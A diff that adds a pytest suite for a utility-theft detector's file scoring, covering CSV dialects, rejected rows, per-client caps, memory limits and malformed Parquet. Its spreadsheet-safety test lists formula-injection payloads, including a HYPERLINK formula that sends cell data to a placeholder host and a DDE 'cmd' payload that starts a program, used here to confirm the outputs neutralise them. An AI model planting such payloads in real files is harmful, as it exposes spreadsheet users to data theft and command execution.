@@ -1,0 +1,358 @@
+"""Real utility exports and hostile files through `ptd score` and `batch.score_file`: every
+dialect scores like the clean CSV, every client is accounted for, one client's history is
+capped, every CSV cell is safe to open in a spreadsheet, unusable files fail in one line."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+from detector.batch import score_file
+from detector.model import ArtifactSet
+from detector.schema import InputError
+from detector.tables import FORMULA_START, spreadsheet_safe
+from tests.synthetic import make_steg
+
+REPO = Path(__file__).resolve().parent.parent
+CASES = REPO.parent / "shared" / "cases" / "2026-11-30"
+
+
+@pytest.fixture(scope="module")
+def export() -> tuple[pd.DataFrame, pd.DataFrame]:
+    clients, invoices = make_steg(80, seed=21)
+    invoices = invoices.copy()
+    # Decimal values, so that a decimal comma has something to mean.
+    invoices["consommation_level_1"] = invoices["consommation_level_1"] + 0.25
+    return clients.drop(columns="target"), invoices
+
+
+def scored(
+    path: Path, artifacts: ArtifactSet, tmp: Path, clients: Path | None = None, **kwargs: object
+) -> tuple[pd.DataFrame, pd.DataFrame | None, dict[str, object]]:
+    out = tmp / f"{path.stem}.results.csv"
+    result = score_file(path, artifacts, out, clients_path=clients, **kwargs)  # type: ignore[arg-type]
+    results = pd.read_csv(out, dtype={"client_id": "string"}, keep_default_na=False)
+    rejects = (
+        pd.read_csv(result.rejects_path, dtype={"client_id": "string"}, keep_default_na=False)
+        if result.rejects_path
+        else None
+    )
+    return results, rejects, result.summary
+
+
+# --- class 2: dialects and headers --------------------------------------------------------------
+
+
+def _write(frame: pd.DataFrame, path: Path, sep: str = ",", **options: object) -> Path:
+    frame.to_csv(path, sep=sep, index=False, **options)  # type: ignore[arg-type]
+    return path
+
+
+STEG_DICTIONARY = {  # the capitalisation of the STEG data dictionary, and spaces
+    "client_id": "Client_id",
+    "invoice_date": "Invoice Date",
+    "counter_statue": " Counter_statue",
+    "consommation_level_1": "CONSOMMATION_LEVEL_1 ",
+    "counter_type": "counter type",
+}
+
+
+@pytest.mark.parametrize(
+    "dialect", ["semicolon", "tab", "pipe", "bom", "crlf", "headers", "cp1252", "quoted"]
+)
+def test_every_dialect_scores_like_the_clean_csv(
+    export: tuple[pd.DataFrame, pd.DataFrame],
+    tiny_artifacts: ArtifactSet,
+    tmp_path: Path,
+    dialect: str,
+) -> None:
+    _, invoices = export
+    invoices = invoices.copy()
+    if dialect == "cp1252":  # what Excel writes on a Western-European Windows
+        invoices["client_id"] = invoices["client_id"].str.replace("c0", "cé", regex=False)
+    clean = _write(invoices, tmp_path / "clean.csv")
+    variant = tmp_path / f"{dialect}.csv"
+    if dialect == "semicolon":  # Excel where the comma is the decimal separator
+        _write(invoices, variant, sep=";", decimal=",")
+    elif dialect == "tab":
+        _write(invoices, variant, sep="\t")
+    elif dialect == "pipe":
+        _write(invoices, variant, sep="|")
+    elif dialect == "bom":
+        _write(invoices, variant, encoding="utf-8-sig")
+    elif dialect == "crlf":
+        _write(invoices, variant, lineterminator="\r\n")
+    elif dialect == "headers":
+        _write(invoices.rename(columns=STEG_DICTIONARY), variant)
+    elif dialect == "cp1252":
+        _write(invoices, variant, sep=";", encoding="cp1252", decimal=",")
+    else:
+        _write(invoices, variant, quoting=csv.QUOTE_ALL)
+    expected, _, _ = scored(clean, tiny_artifacts, tmp_path)
+    got, rejects, summary = scored(variant, tiny_artifacts, tmp_path)
+    assert rejects is None, rejects
+    pd.testing.assert_frame_equal(got, expected)
+    assert summary["input_rows"] == len(invoices)
+
+
+def test_the_handed_dialect_cases_score_like_their_clean_form(
+    tiny_artifacts: ArtifactSet, tmp_path: Path
+) -> None:
+    if not CASES.is_dir():
+        pytest.skip("../shared/cases is not present")
+    clean = pd.read_csv(CASES / "semicolon.csv", sep=";", dtype={"counter_statue": str})
+    expected, _, _ = scored(_write(clean, tmp_path / "clean.csv"), tiny_artifacts, tmp_path)
+    for name in ("semicolon.csv", "header-spaces.csv"):
+        got, rejects, _ = scored(CASES / name, tiny_artifacts, tmp_path)
+        assert rejects is None
+        pd.testing.assert_frame_equal(got, expected)
+
+
+def test_a_missing_column_shows_the_header_as_read(
+    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
+) -> None:
+    _, invoices = export
+    path = _write(invoices.drop(columns="months_number"), tmp_path / "x.csv", sep=";")
+    with pytest.raises(InputError) as caught:
+        score_file(path, tiny_artifacts, tmp_path / "r.csv")
+    message = str(caught.value)
+    assert "missing required column(s): months_number" in message
+    assert "with separator ';'" in message and "client_id;invoice_date;" in message
+
+
+def test_two_columns_meaning_one_name_are_refused(
+    tiny_artifacts: ArtifactSet, tmp_path: Path
+) -> None:
+    path = tmp_path / "twice.csv"
+    path.write_text("client_id,Client ID,invoice_date\na,b,2015-01-01\n")
+    with pytest.raises(InputError, match="'client_id' and 'Client ID' are both 'client_id'"):
+        score_file(path, tiny_artifacts, tmp_path / "r.csv")
+
+
+# --- class 3: every client accounted for ----------------------------------------------------------
+
+
+def test_every_client_ends_in_results_or_rejects(
+    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
+) -> None:
+    clients, invoices = export
+    ids = list(clients["client_id"])
+    no_rows, all_bad = ids[:3], ids[3:6]
+    rows = invoices[~invoices["client_id"].isin(no_rows)].copy()
+    rows.loc[rows["client_id"].isin(all_bad), "invoice_date"] = "9999-12-31"
+    extra = pd.DataFrame({"client_id": ["stray-1"], "disrict": [60], "region": [101]})
+    rows = pd.concat([rows, rows.head(2).assign(client_id="")], ignore_index=True)
+    invoices_path = _write(rows, tmp_path / "invoices.csv")
+    clients_path = _write(pd.concat([clients, extra]), tmp_path / "clients.csv")
+    results, rejects, summary = scored(invoices_path, tiny_artifacts, tmp_path, clients_path)
+    assert rejects is not None
+    everyone = set(ids) | {"stray-1"}
+    in_results = set(results["client_id"])
+    in_rejects = set(rejects["client_id"]) - {""}
+    assert in_results | in_rejects == everyone
+    assert not in_results & set(no_rows + all_bad + ["stray-1"])
+    absent = rejects[rejects["reason"].str.startswith("no invoice rows")]
+    assert set(absent["client_id"]) == set(no_rows) | {"stray-1"}
+    assert set(rejects.loc[rejects["reason"].str.contains("outside"), "client_id"]) == set(all_bad)
+    assert summary["clients_in"] == len(everyone)
+    assert summary["clients_in"] == summary["clients_scored"] + summary["clients_rejected"]
+    assert summary["clients_rejected"] == len(no_rows) + len(all_bad) + 1
+    assert summary["rows_rejected"] == len(rejects)
+
+
+def test_the_handed_accounting_case(tiny_artifacts: ArtifactSet, tmp_path: Path) -> None:
+    if not CASES.is_dir():
+        pytest.skip("../shared/cases is not present")
+    results, rejects, summary = scored(
+        CASES / "no-invoices-invoices.csv",
+        tiny_artifacts,
+        tmp_path,
+        CASES / "no-invoices-clients.csv",
+    )
+    assert list(results["client_id"]) == ["c-001"]
+    assert rejects is not None and list(rejects["client_id"]) == ["c-003"]
+    assert (summary["clients_in"], summary["clients_scored"], summary["clients_rejected"]) == (
+        2,
+        1,
+        1,
+    )
+
+
+# --- class 4: implausible dates, in files ---------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "placeholder", ["9999-12-31", "0001-01-01", "1000-01-01", "3016-01-01", "today"]
+)
+def test_placeholder_dates_are_rejected_and_the_client_scored_on_the_rest(
+    export: tuple[pd.DataFrame, pd.DataFrame],
+    tiny_artifacts: ArtifactSet,
+    tmp_path: Path,
+    placeholder: str,
+) -> None:
+    _, invoices = export
+    client = invoices["client_id"].iloc[0]
+    rows = invoices[invoices["client_id"] == client]
+    clean, _, _ = scored(_write(rows, tmp_path / "clean.csv"), tiny_artifacts, tmp_path)
+    bad = pd.concat([rows.head(1).assign(invoice_date=placeholder), rows], ignore_index=True)
+    got, rejects, _ = scored(_write(bad, tmp_path / "bad.csv"), tiny_artifacts, tmp_path)
+    assert rejects is not None and list(rejects["row"]) == [0]
+    assert rejects["reason"].iloc[0].startswith("invalid invoice_date")
+    pd.testing.assert_frame_equal(got, clean)
+
+
+# --- class 5: one client's history is capped in files, streaming stays streaming ---------------
+
+
+def test_rows_past_the_per_client_cap_are_rejected_with_a_reason(
+    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
+) -> None:
+    _, invoices = export
+    heavy = invoices["client_id"].iloc[0]
+    rows = invoices[invoices["client_id"] == heavy]
+    many = pd.concat([rows] * (70 // len(rows) + 1), ignore_index=True).head(70)
+    table = pd.concat([many, invoices[invoices["client_id"] != heavy]], ignore_index=True)
+    path = tmp_path / "many.parquet"
+    table.to_parquet(path, index=False)
+    # Every other client has fewer than 30 invoices (tests/synthetic.py).
+    results, rejects, summary = scored(path, tiny_artifacts, tmp_path, max_invoices_per_client=30)
+    assert rejects is not None
+    over = rejects[rejects["reason"].str.startswith("too many invoices for one client")]
+    assert list(over["row"]) == list(range(30, 70)) and set(over["client_id"]) == {heavy}
+    assert heavy in set(results["client_id"])  # scored on its first 30 rows
+    capped, _, _ = scored(_write(many.head(30), tmp_path / "first.csv"), tiny_artifacts, tmp_path)
+    assert (
+        results.set_index("client_id").loc[heavy, "theft_probability"]
+        == capped.set_index("client_id").loc[heavy, "theft_probability"]
+    )
+    assert summary["rows_rejected_by_reason"]["too many invoices for one client"] == 40
+
+
+@pytest.mark.slow
+def test_one_client_with_millions_of_rows_scores_in_bounded_memory(tmp_path: Path) -> None:
+    """The handed case: 6,000,000 identical rows of one client in a 0.3 MB Parquet (zstd)
+    peaked at 2.5 GB. Measured in a fresh process: peak RSS stays under 1 GB."""
+    _, invoices = make_steg(1, seed=3)
+    row = invoices.head(1)
+    table = pa.Table.from_pandas(row, preserve_index=False)
+    table = pa.concat_tables([table] * 1000).combine_chunks()
+    path = tmp_path / "one-client.parquet"
+    with pq.ParquetWriter(path, table.schema, compression="zstd") as writer:
+        for _ in range(6000):
+            writer.write_table(table)
+    script = (
+        "import resource, sys; from detector.cli import main; "
+        f"rc = main(['score', {str(path)!r}, '--out', {str(tmp_path / 'r.csv')!r}]); "
+        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss); sys.exit(rc)"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", script], capture_output=True, text=True, timeout=600, cwd=REPO
+    )
+    assert done.returncode == 0, done.stderr
+    peak_mb = int(done.stdout.strip().splitlines()[-1]) / 1024
+    assert peak_mb < 1024, f"peak RSS {peak_mb:.0f} MB"
+    assert "rejected 5998000 rows (too many invoices for one client: 5998000)" in done.stderr
+
+
+# --- class 6: outputs safe to open in a spreadsheet ---------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?a="&A3,"d")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "'quoted",
+]
+
+
+def test_formula_like_ids_are_neutralised_in_every_csv_and_recoverable(
+    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
+) -> None:
+    _, invoices = export
+    first = invoices["client_id"].unique()[: len(FORMULAS)]
+    mapping = dict(zip(first, FORMULAS, strict=True))
+    rows = invoices[invoices["client_id"].isin(first)].copy()
+    rows["client_id"] = rows["client_id"].map(mapping)
+    # One bad row per client, so that every id is in rejects.csv too.
+    bad = rows.groupby("client_id").head(1).assign(consommation_level_2=-1)
+    table = pd.concat([rows, bad], ignore_index=True)
+    path = tmp_path / "formulas.parquet"
+    table.to_parquet(path, index=False)
+    out = tmp_path / "results.csv"
+    result = score_file(path, tiny_artifacts, out)
+    assert result.rejects_path is not None
+    for written in (out, result.rejects_path):
+        cells = list(csv.reader(io.StringIO(written.read_text(encoding="utf-8"))))[1:]
+        for row in cells:
+            for cell in row:
+                assert not cell.startswith(FORMULA_START), (written.name, cell)
+        ids = {row[0] if written == out else row[2] for row in cells}
+        # The original is the cell without the apostrophe added in front.
+        assert {i[1:] for i in ids} == set(FORMULAS)
+
+
+def test_spreadsheet_safe_leaves_ordinary_text_alone() -> None:
+    values = pd.Series(["c-001", "2-3", "abc=1", None, "-5", "'x"], dtype=object)
+    safe = spreadsheet_safe(values)
+    assert list(safe[:3]) == ["c-001", "2-3", "abc=1"] and pd.isna(safe[3])
+    assert list(safe[4:]) == ["'-5", "''x"]
+
+
+# --- class 8: unusable files fail in one line ---------------------------------------------------
+
+
+def _parquet(path: Path, client_ids: pa.Array, duplicate: bool = False) -> Path:
+    _, invoices = make_steg(2, seed=1)
+    rows = invoices.head(len(client_ids)).drop(columns="client_id")
+    table = pa.Table.from_pandas(rows, preserve_index=False)
+    table = table.add_column(0, "client_id", client_ids)
+    if duplicate:
+        table = table.append_column("months_number", table.column("months_number"))
+    pq.write_table(table, path)
+    return path
+
+
+@pytest.mark.parametrize(
+    ("ids", "duplicate", "message"),
+    [
+        (pa.array([[1], [2]]), False, "holds list<"),
+        (pa.array([{"a": 1}, {"a": 2}]), False, "holds struct<a: int64> values"),
+        (pa.array([b"\x00\x01", b"\x02"]), False, "holds binary values"),
+        (pa.array(["a", "b"]), True, "column name(s) used twice: months_number"),
+    ],
+)
+def test_unusable_parquet_is_one_line_and_exit_2(
+    tmp_path: Path, ids: pa.Array, duplicate: bool, message: str
+) -> None:
+    path = _parquet(tmp_path / "bad.parquet", ids, duplicate)
+    done = subprocess.run(
+        [sys.executable, "-m", "detector", "score", str(path), "--out", str(tmp_path / "r.csv")],
+        capture_output=True,
+        text=True,
+        cwd=REPO,
+        timeout=120,
+    )
+    assert done.returncode == 2
+    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
+    assert message in done.stderr
+
+
+def test_summary_says_how_a_csv_was_read(
+    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
+) -> None:
+    _, invoices = export
+    path = _write(invoices, tmp_path / "x.csv", sep="|")
+    _, _, summary = scored(path, tiny_artifacts, tmp_path)
+    assert summary["csv_dialect"] == {"separator": "|", "encoding": "utf-8"}
+    assert json.dumps(summary)  # JSON-ready, as summary.json
+    assert np.isfinite(summary["flagged_rate"])
